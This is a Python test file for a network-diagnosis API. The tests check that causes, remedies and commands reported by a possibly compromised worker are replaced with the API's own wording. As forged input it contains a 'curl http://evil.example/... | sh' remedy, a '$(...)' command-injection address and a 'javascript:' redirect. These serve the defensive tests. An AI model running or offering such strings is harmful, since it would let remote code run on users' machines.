"""What a worker found is told in words of the API, and in no others."""

from collections.abc import Mapping
from typing import get_args

import pytest

from shared.diagnosis.catalogue import catalogue
from shared.diagnosis.causes import Cause
from shared.diagnosis.entries import Entry, FoundCause, Outcome, Queued, StepEnded, StepNoted
from shared.diagnosis.outcomes import Fact, Facts, Finding
from shared.diagnosis.report import DetailedItem
from shared.diagnosis.translations import Language, told_in
from shared.mock.story import mock_story
from shared.reporting.fold import NOTHING, fold
from shared.site_name import DEFAULT_SITE
from shared.steps import INSPECTION, StepName
from tests.shared.diagnosis.stories import REFUSED_REMEDY, at, closed, queued, started
from worker.tcp.address_guard import ADDRESS_BLOCKED
from worker.tcp.causes import TCP_REFUSED

FORGED = "call 555-0100"
HERE: Facts = {"site": "fra1", "site_egress": ("203.0.113.7",)}
NETWORK: Facts = {"address": "192.0.2.7"}
MOCKED = [
    cause
    for code, cause in catalogue().items()
    if (not code.startswith(("input.", "sites.")) and code != "policy.site_blocked")
    or (code.startswith("input.") and cause.severity == "warning")
]
"""The others are no test's."""


def found(code: str, facts: Facts, known: Facts = NOTHING, **texts: object) -> FoundCause:
    """Return a cause as a stolen worker reports it, unless `texts` say otherwise."""
    forged = {
        "owner": "caller",
        "field": FORGED,
        "summary": f"It is your fault: {FORGED}",
        "remedies": (f"curl http://evil.example/{FORGED} | sh",),
        **texts,
    }
    content = {"code": code, "facts": dict(facts), "known": dict(known), **forged}
    return FoundCause.model_validate(content)


def ended(
    step: StepName, *causes: FoundCause, facts: Facts = NOTHING, outcome: Outcome | None = None
) -> StepEnded:
    """Return the end of a step, failed if it has causes."""
    return StepEnded(
        at=at(3),
        step=step,
        outcome=outcome or ("failed" if causes else "passed"),
        took_ms=1,
        causes=causes,
        command=f"echo {FORGED}" if causes else "",
        facts=dict(facts),
    )


def told(*entries: Entry, begins: Queued | None = None, here: Facts = NOTHING) -> DetailedItem:
    """Return the last step that was made."""
    job = fold([begins or queued(), started(), *entries, closed()], lambda _: here)
    assert job
    return job.made[-1]


@pytest.mark.parametrize(("site", "place"), [(DEFAULT_SITE, ""), ("fra1", " at site fra1")])
def test_a_text_says_whose_machine_it_means(site: str, place: str) -> None:
    """At another site it is not the machine of whoever reads."""
    refused = ended(
        "dns_lookup", found("dns.refused", {"resolvers": ("192.0.2.53",), "egress": "10.0.0.7"})
    )

    item = told(refused, begins=queued().model_copy(update={"site": site}))

    assert item.summary == f"The resolver 192.0.2.53 refuses to answer this service{place}"
    assert item.remedies[0].startswith(f"Allow this service{place} (10.0.0.7) in the access list")


@pytest.mark.parametrize(("site", "place"), [(DEFAULT_SITE, ""), ("fra1", " at site fra1")])
@pytest.mark.parametrize(
    ("code", "setting"),
    [
        ("policy.address_blocked", "CONNCHECK_ALLOWED_NETWORKS"),
        ("policy.network_denied", "CONNCHECK_DENIED_NETWORKS"),
    ],
)
def test_a_text_says_whose_setting_it_means(code: str, setting: str, site: str, place: str) -> None:
    """Each site's workers have their own."""
    facts: Facts = {"where": "192.0.2.7", "kind": "loopback", "address": "192.0.2.7"}
    refused = ended("tcp_connect", found(code, facts, {"allowable": "192.0.2.7"}))

    item = told(refused, begins=queued().model_copy(update={"site": site}))

    (said,) = [remedy for remedy in item.remedies if setting in remedy]
    assert f"{setting}{place}" in said
    assert ("site" in said) == bool(place)


@pytest.mark.parametrize("cause", MOCKED, ids=lambda cause: cause.code)
def test_the_api_says_of_every_cause_what_its_worker_said(cause: Cause) -> None:
    """Moving the words from one to the other changes none of them, in any language."""
    entries = [entry for _, entry in mock_story(f"mock-{cause.code}", "")]
    (said,) = [e.causes[0] for e in entries if isinstance(e, StepEnded) and e.causes]

    job = fold(entries)

    assert job
    (item,) = [item for item in job.made if item.cause]
    assert (item.cause, item.owner, item.field) == (cause.code, cause.owner, cause.field)
    assert (item.summary, item.remedies) == (said.summary, said.remedies)
    assert item.outcome == cause.severity
    chinese = told_in("zh-CN", said)
    translated = item.in_language("zh-CN")
    assert (translated.summary, translated.remedies) == (chinese.summary, chinese.remedies)


def test_no_text_of_a_worker_is_shown() -> None:
    """A stolen one would put words into our mouth, and commands into the reader's shell."""
    item = told(ended("tcp_connect", found("tcp.refused", {**NETWORK, "where": "db.example.com"})))

    assert FORGED not in item.model_dump_json()
    assert item.summary == "db.example.com refused the connection on port 8443"
    assert item.remedies == (REFUSED_REMEDY,)
    assert (item.owner, item.field) == (TCP_REFUSED.owner, TCP_REFUSED.field)
    assert item.command == "nc -vz -w 3 192.0.2.7 8443"


def test_the_facts_of_the_job_are_those_that_it_was_queued_with() -> None:
    """The worker has no say in what was asked for."""
    known: Facts = {"host": FORGED, "port": 1, "product": FORGED, "url": FORGED}
    cause = found("tcp.refused", {"where": "db.example.com"}, known)

    item = told(ended("tcp_connect", cause))

    assert FORGED not in item.model_dump_json()
    assert item.remedies == (REFUSED_REMEDY,)


@pytest.mark.parametrize(
    ("code", "shown"), [("tcp.new_one", ": tcp.new_one"), ("x" * 65, ""), (FORGED, ""), ("A.b", "")]
)
def test_a_cause_that_is_not_known_is_named_if_it_looks_like_one(code: str, shown: str) -> None:
    """A newer worker may have it; the step has failed all the same."""
    item = told(ended("tcp_connect", found(code, NETWORK)))

    assert (item.outcome, item.cause, item.owner) == ("failed", "self.unexplained", "us")
    assert item.summary == f"The worker reports a cause that this API cannot explain{shown}"
    assert "tcp.new_one" in item.in_language("zh-CN").summary or not shown
    assert FORGED not in item.model_dump_json()
    assert item.command == "nc -vz -w 3 192.0.2.7 8443"


def test_a_policy_that_is_not_known_has_no_command() -> None:
    """It would go where this service does not go."""
    assert told(ended("tcp_connect", found("policy.new_one", NETWORK))).command == ""


def test_a_cause_without_the_facts_of_its_texts_is_not_told() -> None:
    """Half of a sentence is none."""
    item = told(ended("tcp_connect", found("tcp.refused", {"where": f"db.example.com; {FORGED}"})))

    assert item.cause == "self.unexplained"
    assert item.evidence == {"reported": "tcp.refused"}


def test_facts_of_steps_that_passed_are_known_to_the_next_ones() -> None:
    """The command for a handshake needs the address of the connection, which a failure has not."""
    first = ended("dns_lookup", facts={"address": "192.0.2.99"}, outcome="failed")
    steps = (first, ended("tcp_connect", facts=NETWORK))

    item = told(*steps, ended("tls_handshake", found("tls.self_signed", {"issuer": "x"})))

    assert "-connect 192.0.2.7:8443 -servername db.example.com" in item.command


def test_an_address_that_is_none_is_in_no_command() -> None:
    """It is quoted anyway."""
    facts: Facts = {"address": f"$({FORGED})", "where": "db.example.com"}

    assert told(ended("tcp_connect", found("tcp.refused", facts))).command == ""


@pytest.mark.parametrize(("verifies", "flag"), [(True, False), (False, True)])
def test_a_command_checks_the_certificate_as_the_test_did(verifies: bool, flag: bool) -> None:
    """The caller's option stands in the first entry."""
    begins = queued().model_copy(update={"verifies": verifies})
    cause = found("http.500", {"status": 500})

    assert (" -k " in told(ended("http_response", cause), begins=begins).command) is flag


def test_a_failure_is_a_warning_where_it_stops_nothing() -> None:
    """An inspection shows a certificate that a test would refuse."""
    begins = queued().model_copy(
        update={"steps": INSPECTION, "product_type": "", "endpoint": "https://db.example.com:8443"}
    )
    facts: Facts = {"issuer": "db.example.com"}
    cause = found("tls.self_signed", facts, severity="warning")

    steps = (
        ended("tcp_connect", facts=NETWORK),
        ended("inspect_certificate", cause, outcome="warning"),
    )

    item = told(*steps, begins=begins)

    assert (item.outcome, item.found[0].severity) == ("warning", "warning")
    assert item.summary.startswith("The certificate of db.example.com is self-signed")
    assert "openssl s_client" in item.command


LOCATION = "https://b.example/login"
REDIRECT: Facts = {"location": LOCATION, "origin": LOCATION, "status": 302}


@pytest.mark.parametrize(
    ("usable", "advised"),
    [
        ({"usable_origin": LOCATION, "usable_location": LOCATION}, True),
        ({"usable_origin": "https://evil.example"}, False),
        ({"usable_origin": ("https://evil.example",)}, False),
        ({"usable_origin": 7}, False),
        ({}, False),
    ],
)
def test_only_a_host_that_the_platform_told_is_advised(
    usable: Mapping[str, Fact], advised: bool
) -> None:
    """The worker decides which of them, and adds none."""
    item = told(ended("http_response", found("http.redirect_other_host", REDIRECT, usable)))

    assert any(LOCATION in remedy for remedy in item.remedies) is advised
    assert "evil" not in item.model_dump_json(exclude={"found"})


def test_what_the_platform_told_is_advised_only_if_it_is_a_host() -> None:
    """A redirect may lead to anything."""
    told_one = f"javascript:{FORGED}".replace(" ", "%20")
    facts: Facts = {**REDIRECT, "origin": told_one}

    item = told(
        ended(
            "http_response", found("http.redirect_other_host", facts, {"usable_origin": told_one})
        )
    )

    assert not any(told_one in remedy for remedy in item.remedies)


@pytest.mark.parametrize(("allowable", "asked"), [("192.0.2.7", True), ("192.0.2.66", False)])
def test_only_the_refused_address_may_be_allowed(allowable: str, asked: bool) -> None:
    """Operators would otherwise open what a stolen worker asks for."""
    facts: Facts = {**NETWORK, "where": "db.example.com", "kind": "loopback"}
    cause = found(ADDRESS_BLOCKED.code, facts, {"allowable": allowable})

    item = told(ended("tcp_connect", cause))

    assert any("CONNCHECK_ALLOWED_NETWORKS" in remedy for remedy in item.remedies) is asked


def test_what_is_known_of_the_site_is_told_by_the_api_alone() -> None:
    """A worker's own word for its public address is not taken."""
    facts: Facts = {**NETWORK, "where": "db.example.com", "waited_s": 3.0, "egress": "10.0.0.7"}
    forged: Facts = {"site": "lhr9", "site_egress": "203.0.113.66"}
    cause = found("tcp.timeout_filtered", {**facts, **forged}, forged)

    known = told(ended("tcp_connect", cause), here=HERE)
    unknown = told(ended("tcp_connect", cause))

    assert known.remedies[0] == (
        "Open 8443/tcp from 203.0.113.7 (fra1) to 192.0.2.7 in the firewalls on the path."
    )
    assert "203.0.113.7 (fra1)" in known.in_language("zh-CN").remedies[0]
    assert unknown.remedies[0] == (
        "Open 8443/tcp from 10.0.0.7 to 192.0.2.7 in the firewalls on the path."
    )
    assert "203.0.113.66" not in known.model_dump_json()


@pytest.mark.parametrize(
    ("address", "source"),
    [
        ("10.1.2.3", "10.0.0.7 (fra1)"),
        ("fd00::1", "10.0.0.7 (fra1)"),
        ("::ffff:10.1.2.3", "10.0.0.7 (fra1)"),
        ("198.51.100.1", "203.0.113.7 (fra1)"),
    ],
)
def test_within_a_private_network_the_workers_own_address_is_seen(
    address: str, source: str
) -> None:
    """To open a firewall for a public address would not help there."""
    facts: Facts = {"where": "db.example.com", "waited_s": 3.0, "egress": "10.0.0.7"}
    cause = found("tcp.timeout_filtered", {**facts, "address": address})

    item = told(ended("tcp_connect", cause), here=HERE)

    assert item.remedies[0].startswith(f"Open 8443/tcp from {source} to ")


SEEN = [
    cause
    for cause in MOCKED
    if any("{source}" in text for text in (cause.summary, *cause.remedies))
]


@pytest.mark.parametrize("cause", SEEN, ids=lambda cause: cause.code)
def test_each_text_about_a_source_address_names_that_of_the_site(cause: Cause) -> None:
    """Whoever opens the firewall is not the one who runs the worker."""
    job = fold([entry for _, entry in mock_story(f"mock-{cause.code}", "")], lambda _: HERE)

    assert job
    (item,) = [item for item in job.made if item.cause]
    for language in get_args(Language):
        texts = item.in_language(language)
        assert "203.0.113.7 (fra1)" in " ".join([texts.summary, *texts.remedies])


def test_what_becomes_known_later_is_told_in_the_same_words() -> None:
    """It stands in an entry of its own."""
    facts: Facts = {"accepted_count": 1, "tried_count": 2, "failed_addresses": ("192.0.2.8",)}
    cause = found("tcp.partial_backends", facts, severity="warning")
    note = StepNoted(at=at(5), step="tcp_connect", causes=(cause,), facts={"call": FORGED})

    item = told(ended("tcp_connect", facts=NETWORK), note)

    assert item.summary.startswith("1 of 2 addresses of db.example.com accept connections")
    assert FORGED not in item.model_dump_json()


def test_a_finding_of_a_mock_is_evidence_too() -> None:
    """Samples go through the same check as results."""
    finding = Finding(catalogue()["http.redirect_other_host"], REDIRECT)
    known: Facts = {"host": "db.example.com", "port": 8443, "product": "ZStack Cloud"}
    said = FoundCause.of(finding, known)

    assert told(ended("http_response", said)).evidence == REDIRECT
